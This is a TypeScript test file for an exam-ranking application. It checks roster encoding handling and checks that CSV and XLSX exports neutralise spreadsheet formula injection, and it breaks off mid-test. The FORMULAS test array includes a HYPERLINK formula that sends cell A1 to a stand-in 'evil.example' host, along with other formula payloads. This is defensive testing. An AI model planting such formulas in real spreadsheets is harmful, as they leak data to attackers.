// A security finding: encodings corrupted names silently, and exports could carry spreadsheet formulas.
//  - A roster saved as Windows-1252 (older Excel's "CSV") imported as "0 new, 2 updated" with names like "Harto�o";
//    UTF-16 files (Excel's "Unicode Text") were refused with "missing column".
//  - A text cell starting with = + - @ (tab, CR) in a CSV or XLSX Lentera writes runs as a formula in a spreadsheet.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { LenteraApp } from '../../src-main/api/app';
import { run } from '../../src-main/cli/main';
import { demoPackage } from '../../src-main/core/demo/generate';
import { rank } from '../../src-main/core/ranking/engine';
import { resultsCsv, resultsSpreadsheetCsv, resultsXlsx } from '../../src-main/core/ranking/export';
import { readFlatResults } from '../../src-main/core/ranking/flat';
import { loadRuleset } from '../../src-main/core/ranking/rulesets';
import { parseCsvSteps, parseCsvText, readTableFile, readXlsx } from '../../src-main/core/roster/table-file';
import { decodeTableBytes, decodeWindows1252 } from '../../src-main/core/roster/text-encoding';
import { csvField, csvLine, needsQuotePrefix, originalCell, safeCell } from '../../src-main/shared/spreadsheet-cell';
import { rejectedReportCsv } from '../../src-renderer/features/exams/rejectedReport';
import { appWithExam, countRows, tempDir } from '../unit/helpers';

const local = { local: 'test' };
const EXAM = 'CPNS-SMG-2026';
const COLUMNS = ['nomor_peserta', 'nik', 'nama', 'tanggal_lahir', 'jenis_kelamin', 'pendidikan', 'ipk', 'kode_formasi', 'kategori'];

/** Names older Excel writes as Windows-1252: Latin-1 letters, and 0x92 (’) and 0x96 (–) from the 0x80–0x9F range. */
const PEOPLE = [
  { nomor_peserta: '263374009001', nik: '3374011203950001', nama: 'Hartoño', pendidikan: 'S1 Teknik Informatika' },
  { nomor_peserta: '263374009002', nik: '3374011203950002', nama: 'Siti Rahmawatí', pendidikan: 'S1 Akuntansi – Keuangan' },
  { nomor_peserta: '263374009003', nik: '3374011203950003', nama: 'Ñoman O’Brien', pendidikan: 'S1 Ilmu Pemerintahan' },
];

function rosterLines(people: { nomor_peserta: string; nik: string; nama: string; pendidikan: string; ipk?: string }[], sep = ';'): string[] {
  return [
    COLUMNS.join(sep),
    ...people.map((p) => [p.nomor_peserta, p.nik, p.nama, '12/03/1995', 'L', p.pendidikan, p.ipk ?? '3,51', 'F01', 'umum'].join(sep)),
  ];
}

/** Windows-1252 bytes of a text, written out by hand (Node has no encoder for it). */
const CP1252_HIGH = '€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008DŽ\u008F\u0090‘’“”•–—˜™š›œ\u009DžŸ';
function cp1252(text: string): Buffer {
  return Buffer.from(
    [...text].map((c) => {
      const code = c.codePointAt(0)!;
      if (code < 0x80 || (code >= 0xa0 && code <= 0xff)) return code;
      const i = CP1252_HIGH.indexOf(c);
      if (i < 0) throw new Error(`${c} is not in Windows-1252`);
      return 0x80 + i;
    }),
  );
}

const utf16le = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
const utf16be = (text: string) => utf16le(text).swap16();

const examApp = (pkg = demoPackage(10)): Promise<LenteraApp> => appWithExam(pkg);

function write(bytes: Buffer | string, name = 'roster.csv'): string {
  const path = join(tempDir(), name);
  writeFileSync(path, bytes);
  return path;
}

const importRoster = (app: LenteraApp, path: string, skipInvalid = false) =>
  app.invokeAsync('roster.import', { exam: EXAM, file: { path }, skipInvalid }, local) as Promise<any>;
const previewRoster = (app: LenteraApp, path: string) => app.invokeAsync('roster.preview', { exam: EXAM, file: { path } }, local) as Promise<any>;

function names(app: LenteraApp): Record<string, { nama: string; pendidikan: string }> {
  const rows = app.workstation!.db.prepare('SELECT nomor_peserta, nama, pendidikan FROM candidates WHERE nomor_peserta LIKE ?').all('2633740090%') as {
    nomor_peserta: string;
    nama: string;
    pendidikan: string;
  }[];
  return Object.fromEntries(rows.map((r) => [r.nomor_peserta, { nama: r.nama, pendidikan: r.pendidikan }]));
}

const expected = Object.fromEntries(PEOPLE.map((p) => [p.nomor_peserta, { nama: p.nama, pendidikan: p.pendidikan }]));

/** Every table's row count: a refused import changes none of them, the audit log aside. */
function counts(app: LenteraApp): Record<string, number> {
  const tables = app.workstation!.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name <> 'audit_events'").pluck().all() as string[];
  return Object.fromEntries(tables.map((t) => [t, countRows(app, t)]));
}

describe('roster encodings', () => {
  it('a Windows-1252 roster imports with every name exactly right, and the answer and the audit event say windows-1252', async () => {
    const app = await examApp();
    const path = write(cp1252(rosterLines(PEOPLE).join('\r\n') + '\r\n'));
    const preview = await previewRoster(app, path);
    expect(preview).toMatchObject({ ok: true, value: { rows: 3, inserts: 3, rejectedCount: 0, file: { encoding: 'windows-1252' } } });
    const r = await importRoster(app, path);
    expect(r).toMatchObject({ ok: true, value: { rows: 3, inserts: 3, updates: [], file: { name: 'roster.csv', encoding: 'windows-1252' } } });
    expect(names(app)).toEqual(expected);
    const event = app.workstation!.db.prepare("SELECT payload FROM audit_events WHERE command = 'roster.import' ORDER BY seq DESC LIMIT 1").pluck().get() as string;
    expect(JSON.parse(event).file).toMatchObject({ name: 'roster.csv', encoding: 'windows-1252' });
    // The same names in UTF-8 are the same people: nothing changes (the finding had "0 new, 2 updated").
    const again = await importRoster(app, write(rosterLines(PEOPLE).join('\n'), 'roster-utf8.csv'));
    expect(again).toMatchObject({ ok: true, value: { inserts: 0, updates: [], unchanged: 3, file: { encoding: 'utf-8' } } });
  });

  it('a UTF-16LE roster with BOM, tab-separated (Excel "Unicode Text"), imports correctly and says utf-16le', async () => {
    const app = await examApp();
    const r = await importRoster(app, write(utf16le(rosterLines(PEOPLE, '\t').join('\r\n') + '\r\n'), 'roster.txt'));
    expect(r).toMatchObject({ ok: true, value: { rows: 3, inserts: 3, rejectedCount: 0, file: { encoding: 'utf-16le' } } });
    expect(names(app)).toEqual(expected);
  });

  it('a UTF-16BE roster with BOM imports correctly and says utf-16be', async () => {
    const app = await examApp();
    const r = await importRoster(app, write(utf16be(rosterLines(PEOPLE).join('\n'))));
    expect(r).toMatchObject({ ok: true, value: { rows: 3, inserts: 3, rejectedCount: 0, file: { encoding: 'utf-16be' } } });
    expect(names(app)).toEqual(expected);
  });

  it('a UTF-16LE roster without BOM (NUL in every other byte) is recognised as UTF-16', async () => {
    const app = await examApp();
    const r = await importRoster(app, write(Buffer.from(rosterLines(PEOPLE, '\t').join('\r\n'), 'utf16le')));
    expect(r).toMatchObject({ ok: true, value: { inserts: 3, file: { encoding: 'utf-16le' } } });
    expect(names(app)).toEqual(expected);
  });

  it('UTF-8 with and without BOM still imports, and says so', async () => {
    const app = await examApp();
    const text = rosterLines(PEOPLE).join('\r\n');
    expect(await previewRoster(app, write(text))).toMatchObject({ ok: true, value: { inserts: 3, file: { encoding: 'utf-8' } } });
    expect(await importRoster(app, write(`\uFEFF${text}`))).toMatchObject({ ok: true, value: { inserts: 3, file: { encoding: 'utf-8-bom' } } });
    expect(names(app)).toEqual(expected);
  });

  it('bytes Windows-1252 leaves undefined are refused naming file, line and column, and the database is unchanged', async () => {
    const app = await examApp();
    const lines = rosterLines(PEOPLE);
    // line 3 (the second person), in the nama column: "Siti" + 0x81 + "Rahmawatí"
    const bytes = Buffer.concat([cp1252(lines.slice(0, 2).join('\r\n') + '\r\n263374009002;3374015509970002;Siti'), Buffer.from([0x81]), cp1252('Rahmawatí;12/03/1995;P;S1;3,5;F01;umum\r\n')]);
    const path = write(bytes);
    const before = counts(app);
    for (const r of [await previewRoster(app, path), await importRoster(app, path), await importRoster(app, path, true)]) {
      expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { file: 'roster.csv', line: 3, column: 'nama', position: 35, char: '0x81', expected: 'CSV UTF-8' } } });
      expect(r.error.message).toMatch(/^roster\.csv, line 3, column nama \(character 35\): byte 0x81, which Windows-1252 leaves undefined: the file is neither UTF-8 nor Windows-1252 text\. Save the file as "CSV UTF-8"/);
    }
    expect(counts(app)).toEqual(before);
    expect(names(app)).toEqual({});
  });

  it('random binary named .csv is refused, and the database is unchanged', async () => {
    const app = await examApp();
    let seed = 20261130;
    const random = Buffer.from(Array.from({ length: 4096 }, () => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 16) & 0xff));
    const before = counts(app);
    const r = await importRoster(app, write(random));
    expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { file: 'roster.csv', line: expect.any(Number) } } });
    expect(r.error.message).toMatch(/^roster\.csv, line \d+, column .*CSV UTF-8/);
    expect(counts(app)).toEqual(before);
  });

  it('a file that is partly UTF-8 and partly Windows-1252 is refused rather than read either way', async () => {
    const app = await examApp();
    const lines = rosterLines(PEOPLE);
    const bytes = Buffer.concat([Buffer.from(lines.slice(0, 2).join('\n') + '\n', 'utf8'), cp1252(lines.slice(2).join('\n'))]);
    const r = await importRoster(app, write(bytes));
    expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { line: 3, column: 'nama', reason: 'mixed' } } });
    expect(names(app)).toEqual({});
  });

  it('a UTF-16 file that cannot be decoded is refused saying the file is UTF-16', async () => {
    const app = await examApp();
    const good = utf16le(rosterLines(PEOPLE).join('\n'));
    // a lone high surrogate in the middle of line 4
    const at = good.indexOf(Buffer.from('Brien', 'utf16le'));
    const bytes = Buffer.concat([good.subarray(0, at), Buffer.from([0x00, 0xd8]), good.subarray(at)]);
    const r = await importRoster(app, write(bytes));
    expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { line: 4, column: 'nama', encoding: 'utf-16le' } } });
    expect(r.error.message).toMatch(/the file is UTF-16, but it holds an unpaired surrogate U\+D800\. Save the file as "CSV UTF-8"/);
    expect(names(app)).toEqual({});
  });

  it('control characters in a UTF-8 file are refused with line and column', async () => {
    const app = await examApp();
    const lines = rosterLines(PEOPLE);
    lines[2] = lines[2]!.replace('Siti', 'Si\u0000ti');
    const r = await importRoster(app, write(lines.join('\n')));
    expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { line: 3, column: 'nama', char: 'U+0000' } } });
  });
});

describe('CAT score encodings', () => {
  const pkg = demoPackage(30);
  const skd = pkg.sessions.find((s) => s.code === 'SKD-1')!.candidates;

  it('a UTF-16 CAT file imports and scores.import says utf-16le; a Windows-1252 one says windows-1252', async () => {
    const app = await appWithExam(pkg);
    const text = `nomor_peserta\ttwk\ttiu\ttkp\r\n${skd[0]}\t85\t90\t170\r\n${skd[1]}\t120\t145\t201\r\n`;
    const r = (await app.invokeAsync('scores.import', { exam: EXAM, stage: 'SKD', file: { path: write(utf16le(text), 'skd.txt') } }, local)) as any;
    expect(r).toMatchObject({ ok: true, value: { rows: 2, written: 6, problemCount: 0, file: { name: 'skd.txt', encoding: 'utf-16le' } } });
    const event = app.workstation!.db.prepare("SELECT payload FROM audit_events WHERE command = 'scores.import' ORDER BY seq DESC LIMIT 1").pluck().get() as string;
    expect(JSON.parse(event).file).toMatchObject({ encoding: 'utf-16le' });
    const latin = `nomor_peserta;twk;tiu;tkp;catatan\n${skd[2]};85;90;170;Peserta pindah ruang – disetujui\n`;
    const w = (await app.invokeAsync('scores.import', { exam: EXAM, stage: 'SKD', file: { path: write(cp1252(latin), 'skd2.csv') }, dryRun: true }, local)) as any;
    expect(w).toMatchObject({ ok: true, value: { file: { encoding: 'windows-1252' } } });
  });

  it('a CAT file that is not text is refused with its line, and no score is written', async () => {
    const app = await appWithExam(pkg);
    const bytes = Buffer.concat([Buffer.from(`nomor_peserta;twk;tiu;tkp\n${skd[0]};85;90;170\n${skd[1]};120;`), Buffer.from([0x9d]), Buffer.from('145;201\n')]);
    const before = counts(app);
    const r = (await app.invokeAsync('scores.import', { exam: EXAM, stage: 'SKD', file: { path: write(bytes, 'skd.csv') } }, local)) as any;
    expect(r).toMatchObject({ ok: false, error: { code: 'FILE_ENCODING', details: { line: 3, column: 'tiu', char: '0x9D' } } });
    expect(counts(app)).toEqual(before);
  });
});

describe('decoding, unit by unit', () => {
  it('decodes every Windows-1252 byte by the WHATWG table (Node 20 TextDecoder decodes it as Latin-1)', () => {
    expect(decodeWindows1252(Buffer.from([0x80, 0x92, 0x93, 0x94, 0x96, 0x9f, 0xf1, 0x41]))).toBe('€’“”–ŸñA');
    const all = decodeWindows1252(Buffer.from(Array.from({ length: 256 }, (_, i) => i)));
    expect(all.length).toBe(256);
    expect([...all].filter((c) => /[\u0080-\u009f]/.test(c)).map((c) => c.charCodeAt(0).toString(16))).toEqual(['81', '8d', '8f', '90', '9d']);
  });

  it('chooses the delimiter from the header line, tab included, and reads through readTableFile with the encoding', async () => {
    expect(parseCsvText('a\tb\tc;d\n1\t2\t3;4\n').rows[0]!.values).toEqual({ a: '1', b: '2', 'c;d': '3;4' });
    const t = await readTableFile(write(utf16le('nomor_peserta\tnama\r\n1\tÑoman\r\n'), 'a.csv'));
    expect(t).toMatchObject({ encoding: 'utf-16le', headers: ['nomor_peserta', 'nama'], rows: [{ line: 2, values: { nomor_peserta: '1', nama: 'Ñoman' } }] });
    expect(decodeTableBytes(Buffer.from('a;b\n'))).toEqual({ ok: true, text: 'a;b\n', encoding: 'utf-8' });
  });

  it('counts lines as the editor shows them, also after a quoted line break, CR-only lines and CRLF', () => {
    const bytes = Buffer.concat([Buffer.from('a;b\r\n"x\ny";1\r2;'), Buffer.from([0x8f])]);
    const d = decodeTableBytes(bytes);
    expect(d).toMatchObject({ ok: false, why: 'not-text' });
    return readTableFile(write(bytes)).then(
      () => expect.unreachable(),
      (e) => expect(e.details).toMatchObject({ line: 4, column: 'b', position: 3 }),
    );
  });
});

// --- formula injection ---

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', '+1+1', '@SUM(1)', '-2+3', '\t=1+1', '\r=1+1'];

describe('the spreadsheet cell rule', () => {
  it('prefixes formula-like text with an apostrophe and leaves plain numbers alone', () => {
    for (const f of FORMULAS) expect(safeCell(f)).toBe(`'${f}`);
    for (const n of ['-5', '68.291', '3,45', '+62', '0', '-0.5']) expect(safeCell(n)).toBe(n);
    for (const s of ['Hartoño', "'Ainun", '', 'a=b', '1+1', '#']) expect(safeCell(s)).toBe(s);
    // a text that already starts with a quote before a formula keeps its own quote: the added one can be told apart
    expect(safeCell("'=1+1")).toBe("''=1+1");
    expect(originalCell("''=1+1")).toBe("'=1+1");
    expect(csvField(-5)).toBe('-5');
    expect(csvField('=a;b')).toBe(`"'=a;b"`);
    expect(csvLine(['-2+3', 68.291, null, '-5'])).toBe("'-2+3;68.291;;-5");
  });

  it('property: the output never starts with a formula character unless it is a plain number, and dropping the added quote gives back the input', () => {
    const formulaChar = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '0', '5', '.', ',');
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.tuple(fc.array(formulaChar, { maxLength: 4 }), fc.string({ maxLength: 10 })).map(([a, b]) => a.join('') + b),
      fc.double({ noNaN: true }).map(String),
      fc.integer().map(String),
    );
    fc.assert(
      fc.property(text, (s) => {
        const out = safeCell(s);
        expect(out === s || out === `'${s}`).toBe(true);
        if (/^[=+\-@\t\r]/.test(out)) expect(out).toMatch(/^[+-]?\d+(?:[.,]\d+)?$/);
        expect(originalCell(out)).toBe(s);
        expect(needsQuotePrefix(s)).toBe(out !== s);
        // and as a CSV field it reads back (papaparse) as the safe cell
        const parsed = Papa.parse<string[]>(`${csvLine([s, 'x'])}\r\n`, { delimiter: ';', newline: '\r\n' }).data[0];
        expect(parsed).toEqual([out, 'x']);
      }),
      { numRuns: 2000 },
    );
  });
});

function readCsv(text: string, delimiter = ';'): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;
}

describe('every CSV and XLSX Lentera writes neutralises formulas', () => {
  it('the rejected-rows report (CLI file and the UI download) neutralises names, keeps numbers', async () => {
    const app = await examApp();
    const hostile = FORMULAS.slice(0, 4).map((nama, i) => ({
      nomor_peserta: `26337400910${i}`,
      nik: `337401120395010${i}`,
      nama,
      pendidikan: '@S1',
      ipk: '-5', // outside 0–4: the row is rejected, and its values go into the report
    }));
    const r = await importRoster(app, write(rosterLines([...PEOPLE, ...hostile]).join('\n')), true);
    expect(r).toMatchObject({ ok: true, value: { inserts: 3, rejectedCount: 4 } });
    const rejected = r.value.rejected;
    for (const report of [rejectedReportCsv(rejected, r.value.reportDelimiter)]) {
      const rows = readCsv(report);
      expect(rows[0]).toEqual(['baris', 'kolom', 'alasan', ...COLUMNS]);
      const body = rows.slice(1).map((row) => Object.fromEntries(rows[0]!.map((h, i) => [h, row[i] ?? ''])));
      expect(body.map((b) => b.nama)).toEqual(FORMULAS.slice(0, 4).map((f) => `'${f}`));
      expect(body.map((b) => b.pendidikan)).toEqual(Array(4).fill("'@S1"));
      expect(body.map((b) => b.baris)).toEqual(['5', '6', '7', '8']);
      expect(body.map((b) => b.ipk)).toEqual(Array(4).fill('-5'));
      for (const b of body) expect(Object.values(b).every((v) => !/^[=+\-@\t\r]/.test(v) || /^[+-]?\d+(?:[.,]\d+)?$/.test(v))).toBe(true);
    }
    // and the file the CLI writes next to the roster
    const dir = app.workstation!.dir;
    app.close();
    const file = write(rosterLines(hostile).join('\n'), 'hostile.csv');
    const io = { out: () => undefined, err: () => undefined, askSecret: async () => '', osUser: 't' };
    expect(await run(['roster', 'import', '--data', dir, '--exam', EXAM, '--skip-invalid', file], io)).toBe(0);
    const rows = readCsv(readFileSync(`${file}.ditolak.csv`, 'utf8'));
    expect(rows.slice(1).map((row) => row[5])).toEqual(FORMULAS.slice(0, 4).map((f) => `'${f}`));
  });

  it('ranking.export (CSV and XLSX, base64) neutralises the exam name in the sheet title and keeps numeric columns numbers', async () => {
    const pkg = demoPackage(30);
    pkg.exam.name = '=HYPERLINK("http://evil.example","klik")';
    const app = await appWithExam(pkg);
    const skd = pkg.sessions.find((s) => s.code === 'SKD-1')!.candidates;
    const text = ['nomor_peserta;twk;tiu;tkp', ...skd.map((n, i) => `${n};${85 + 5 * (i % 3)};90;${170 + i}`)].join('\n');
    expect(await app.invokeAsync('scores.import', { exam: EXAM, stage: 'SKD', file: { path: write(text, 'skd.csv') } }, local)).toMatchObject({ ok: true });
    const csv = (await app.invokeAsync('ranking.export', { exam: EXAM, format: 'csv' }, local)) as any;
    const rows = readCsv(Buffer.from(csv.value.dataBase64, 'base64').toString('utf8'), ',').slice(1);
    const header = rows[0]!;
    const scored = rows.slice(1).filter((r) => r[header.indexOf('twk')] !== '');
    expect(scored.length).toBeGreaterThan(0);
    for (const r of scored) for (const col of ['twk', 'tiu', 'tkp', 'skd_total']) expect(r[header.indexOf(col)]).toMatch(/^\d+(\.\d+)?$/);
    const xlsx = (await app.invokeAsync('ranking.export', { exam: EXAM, format: 'xlsx' }, local)) as any;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(xlsx.value.dataBase64, 'base64') as any);
    const ws = wb.worksheets[0]!;
    expect(ws.getCell('A1').value).toBe(`'=HYPERLINK("http://evil.example","klik") — Pemerintah Kota Semarang`);
    expect(ws.getCell('A1').formula).toBeUndefined();
    const twk = ws.getRow(4).values as unknown[];
    const col = twk.indexOf('twk');
    const values = Array.from({ length: ws.rowCount - 4 }, (_, i) => ws.getRow(5 + i).getCell(col).value).filter((v) => v !== null && v !== undefined);
    expect(values.length).toBeGreaterThan(0);
    for (const v of values) expect(typeof v).toBe('number');
  });

  it('the results CSV and XLSX writers (ranking.export, the publication site\'s hasil.csv) neutralise =HYPERLINK, +1+1, @SUM(1), -2+3 in text cells', async () => {
    // A flat results file (lentera rank --input) carries free text in nomor_peserta, kode_formasi and kategori.
    const { ruleset, sha256 } = loadRuleset('cpns-2024');
    const header = 'nomor_peserta;kode_formasi;kuota;kategori;twk;tiu;tkp;skb;ipk;tanggal_lahir';
    const flat = [header, ...FORMULAS.slice(0, 4).map((f, i) => `"${f.replace(/"/g, '""')}";-2+3;2;umum;${65 + 5 * i};90;170;75;3,5;1995-03-1${i}`)].join('\n');
    const facts = readFlatResults(parseCsvText(flat, 'hasil.csv'), ruleset);
    const results = rank(ruleset, facts.formations, facts.candidates);
    expect(results.map((r) => r.nomor_peserta).sort()).toEqual(FORMULAS.slice(0, 4).sort());
    const rs = { id: ruleset.id, version: ruleset.version, sha256 };

    // the exact CSV (commas, decimal points) and the one for Indonesian spreadsheets (semicolons, decimal commas)
    for (const [text, delimiter, decimal] of [
      [resultsCsv(results, rs), ',', /^\d+(\.\d+)?$/],
      [resultsSpreadsheetCsv(results, rs), ';', /^\d+(,\d+)?$/],
    ] as const) {
      const rows = readCsv(text, delimiter).slice(1);
      const h = rows[0]!;
      const body = rows.slice(1).map((row) => Object.fromEntries(h.map((k, i) => [k, row[i]!])));
      expect(body.map((b) => b.nomor_peserta).sort()).toEqual(FORMULAS.slice(0, 4).map((f) => `'${f}`).sort());
      expect(new Set(body.map((b) => b.kode_formasi))).toEqual(new Set(["'-2+3"]));
      for (const b of body) {
        expect(b.twk).toMatch(/^\d+$/);
        expect(b.final).toMatch(decimal);
        expect(originalCell(b.nomor_peserta!)).toMatch(/^[=+\-@]/);
      }
    }

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await resultsXlsx(results, rs, '@SUM(1) — Panitia')) as any);
    const ws = wb.worksheets[0]!;
    expect(ws.getCell('A1').value).toBe("'@SUM(1) — Panitia");
    const cols = (ws.getRow(4).values as unknown[]).slice(1) as string[];
    for (let r = 5; r <= ws.rowCount; r++) {
      const cell = (name: string) => ws.getRow(r).getCell(cols.indexOf(name) + 1);
      expect(String(cell('nomor_peserta').value)).toMatch(/^'[=+\-@]/);
      expect(cell('kode_formasi').value).toBe("'-2+3");
      expect(typeof cell('twk').value).toBe('number');
      expect(typeof cell('final').value).toBe('number');
      for (let c = 1; c <= cols.length; c++) expect(ws.getRow(r).getCell(c).formula).toBeUndefined();
    }
  });
});

// Audit s80 (F2–F5): what a spreadsheet shows must be what is imported. A repeated column, a hidden first sheet and a
// formula's cached result each let a file show one score and store another; a small XLSX can hold millions of rows.
describe('what the spreadsheet shows is what is imported', () => {
  const pkg = demoPackage(30);
  const skd = pkg.sessions.find((s) => s.code === 'SKD-1')!.candidates;
  const importScores = (app: LenteraApp, path: string) => app.invokeAsync('scores.import', { exam: EXAM, stage: 'SKD', file: { path } }, local) as Promise<any>;
  const twkOf = (app: LenteraApp) => app.workstation!.db.prepare("SELECT units FROM score_entries WHERE nomor_peserta = ? AND stage_code = 'SKD' AND item = 'twk'").pluck().all(skd[0]);
  async function xlsx(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
    const wb = new ExcelJS.Workbook();
    build(wb);
    return Buffer.from(await wb.xlsx.writeBuffer());
  }
  const scoreSheet = (wb: ExcelJS.Workbook, name: string, twk: ExcelJS.CellValue, opts?: Partial<ExcelJS.AddWorksheetOptions>) => {
    const ws = wb.addWorksheet(name, opts);
    ws.addRow(['nomor_peserta', 'twk', 'tiu', 'tkp', 'catatan']);
    ws.addRow([skd[0], twk, 90, 170, 'ok']);
    return ws;
  };

  it('a CSV with twk twice (twk, TWK) is refused naming line 1, both columns and their headers; no score is written', async () => {
    const app = await examApp(pkg);
    const before = counts(app);
    const r = await importScores(app, write(`nomor_peserta;twk;tiu;tkp;catatan;TWK\n${skd[0]};85;90;170;ok;150\n`, 'skd.csv'));
    expect(r).toMatchObject({ ok: false, error: { code: 'TABLE_INVALID', details: { file: 'skd.csv', line: 1, reason: 'duplicate-header', column: 'twk', columns: ['B', 'F'], headers: ['twk', 'TWK'] } } });
    expect(r.error.message).toBe('skd.csv, line 1: columns B and F (twk, TWK) are both "twk": a column may appear only once. Delete or rename one of them, and import the file again.');
    expect(counts(app)).toEqual(before);
    expect(twkOf(app)).toEqual([]);
  });

  it('a quoted CSV roster with "Nomor Peserta" and "nomor-peserta" is refused the same way; nothing is imported', async () => {
    const app = await examApp();
    const before = counts(app);
    const [, ...rows] = rosterLines(PEOPLE);
    const text = [['Nomor Peserta', ...COLUMNS.slice(1), 'nomor-peserta'].join(';'), ...rows.map((l) => `${l};"263374009999"`)].join('\r\n');
    const r = await importRoster(app, write(`${text}\r\n`));
    expect(r).toMatchObject({ ok: false, error: { code: 'TABLE_INVALID', details: { line: 1, column: 'nomor_peserta', columns: ['A', 'J'], headers: ['Nomor Peserta', 'nomor-peserta'] } } });
    expect(r.error.message).toMatch(/^roster\.csv, line 1: columns A and J \(Nomor Peserta, nomor-peserta\) are both "nomor_peserta"/);
    expect(counts(app)).toEqual(before);
  });

  it('an XLSX whose second twk column is hidden is refused naming both columns; no score is written', async () => {
    const app = await examApp(pkg);
    const before = counts(app);
    const bytes = await xlsx((wb) => {
      const ws = wb.addWorksheet('SKD');
      ws.addRow(['nomor_peserta', 'twk', 'tiu', 'tkp', 'TWK ']);
      ws.addRow([skd[0], 85, 90, 170, 150]);
      ws.getColumn(5).hidden = true;
    });
    const r = await importScores(app, write(bytes, 'skd.xlsx'));
    expect(r).toMatchObject({ ok: false, error: { code: 'TABLE_INVALID', details: { file: 'skd.xlsx', line: 1, column: 'twk', columns: ['B', 'E'], headers: ['twk', 'TWK '] } } });
    expect(r.error.message).toMatch(/^skd\.xlsx, line 1: columns B and E \(twk, TWK \) are both "twk"/);
    expect(counts(app)).toEqual(before);
  });

  it('an XLSX whose first worksheet is hidden or very hidden is refused naming that sheet; no score is written', async () => {
    for (const state of ['veryHidden', 'hidden'] as const) {
      const app = await examApp(pkg);
      const before = counts(app);
      const bytes = await xlsx((wb) => {
        scoreSheet(wb, 'lama', 150, { state });
        scoreSheet(wb, 'SKD', 85);
        wb.views = [{ x: 0, y: 0, width: 10000, height: 20000, firstSheet: 1, activeTab: 1, visibility: 'visible' }];
      });
      const r = await importScores(app, write(bytes, 'skd.xlsx'));
      expect(r).toMatchObject({ ok: false, error: { code: 'TABLE_INVALID', details: { file: 'skd.xlsx', reason: 'hidden-sheet', sheet: 'lama', state } } });
      expect(r.error.message).toMatch(state === 'hidden' ? /^skd\.xlsx: its first worksheet, "lama", is hidden: Excel opens on another sheet/ : /^skd\.xlsx: its first worksheet, "lama", is very hidden/);
      expect(counts(app)).toEqual(before);
    }
  });

  it('the first worksheet is read when it is visible, whatever sheet is hidden after it', async () => {
    const app = await examApp(pkg);
    const bytes = await xlsx((wb) => {
      scoreSheet(wb, 'SKD', 85);
      scoreSheet(wb, 'lama', 150, { state: 'veryHidden' });
      scoreSheet(wb, 'catatan', 120);
    });
    expect(await importScores(app, write(bytes, 'skd.xlsx'))).toMatchObject({ ok: true, value: { rows: 1, problemCount: 0 } });
    expect(twkOf(app)).toEqual([85 / 5]);
  });

  it('the first worksheet is the first tab, as the workbook orders them, not the first sheet part in the zip', async () => {
    const app = await examApp(pkg);
    const made = await xlsx((wb) => {
      // exceljs orders the tabs by orderNo, a property its types leave out
      (scoreSheet(wb, 'lama', 150) as ExcelJS.Worksheet & { orderNo: number }).orderNo = 1; // worksheets/sheet1.xml, the second tab
      (scoreSheet(wb, 'SKD', 85) as ExcelJS.Worksheet & { orderNo: number }).orderNo = 0; // worksheets/sheet2.xml, the first tab
    });
    // The same parts, sheet1.xml now ahead of sheet2.xml in the zip (as a tool that sorts its entries writes them).
    const dir = tempDir();
    writeFileSync(join(dir, 'made.xlsx'), made);
    execFileSync('unzip', ['-q', 'made.xlsx', '-d', 'x'], { cwd: dir });
    const parts = execFileSync('find', ['.', '-type', 'f'], { cwd: join(dir, 'x') }).toString().trim().split('\n').sort();
    execFileSync('zip', ['-q', '-X', join(dir, 'skd.xlsx'), ...parts], { cwd: join(dir, 'x') });
    expect(parts.indexOf('./xl/worksheets/sheet1.xml')).toBeLessThan(parts.indexOf('./xl/worksheets/sheet2.xml'));
    expect(await importScores(app, join(dir, 'skd.xlsx'))).toMatchObject({ ok: true, value: { rows: 1, problemCount: 0 } });
    expect(twkOf(app)).toEqual([85 / 5]);
  });

  it('an XLSX score cell holding a formula is refused naming its line, column and cell; its cached result is never stored', async () => {
    const app = await examApp(pkg);
    const before = counts(app);
    // The result an author writes into the file is what Excel shows only until it recalculates: 150 is not 80+5.
    const forged = await xlsx((wb) => scoreSheet(wb, 'SKD', { formula: '80+5', result: 150 } as ExcelJS.CellFormulaValue));
    const r = await importScores(app, write(forged, 'skd.xlsx'));
    expect(r).toMatchObject({ ok: false, error: { code: 'SCORES_INVALID', details: { file: 'skd.xlsx', problems: [{ line: 2, column: 'twk', reason: 'cell B2 holds a formula: paste values only' }], count: 1 } } });
    expect(r.error.message).toBe('skd.xlsx, line 2, column twk: cell B2 holds a formula: paste values only (copy the cells, then Paste Special → Values), and import the file again.');
    const bytes = await xlsx((wb) => {
      const ws = scoreSheet(wb, 'SKD', 85);
      ws.addRow([skd[1], 85, { formula: '80+10', result: 175 }, 170, 'ok']);
    });
    const second = await importScores(app, write(bytes, 'skd2.xlsx'));
    expect(second).toMatchObject({ ok: false, error: { code: 'SCORES_INVALID', details: { problems: [{ line: 3, column: 'tiu', reason: 'cell C3 holds a formula: paste values only' }] } } });
    expect(counts(app)).toEqual(before);
  });

  it('a cell of a shared formula (no formula text of its own) is a formula too; a formula in a column no import reads is not refused', async () => {
    const app = await examApp(pkg);
    const shared = await xlsx((wb) => {
      const ws = wb.addWorksheet('SKD');
      ws.addRow(['nomor_peserta', 'twk', 'tiu', 'tkp', 'catatan']);
      ws.addRow([skd[0], 85, 90, 170, { formula: 'B2+0', result: 85 }]);
      ws.addRow([skd[1], { sharedFormula: 'E2', result: 150 }, 90, 170, 'ok']);
    });
